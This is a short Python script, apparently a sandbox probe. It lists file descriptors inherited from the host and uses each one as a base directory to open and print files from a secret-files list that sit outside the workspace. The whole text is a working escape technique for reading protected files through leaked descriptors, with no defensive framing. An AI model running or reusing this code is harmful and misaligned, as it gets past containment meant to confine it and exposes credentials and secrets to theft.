# Processes: file descriptors inherited from the host; a directory one would reach outside the workspace.
import os
for fd in range(3, 256):
    try:
        target = os.readlink("/proc/self/fd/%d" % fd)
    except OSError:
        continue
    print(fd, target)
    for p in SECRET_FILES:
        try:
            rel = os.path.relpath(p, target) if target.startswith("/") else p.lstrip("/")
            f = os.open(rel, os.O_RDONLY, dir_fd=fd)
            print(os.read(f, 4096))
        except Exception as e:
            print(fd, e)
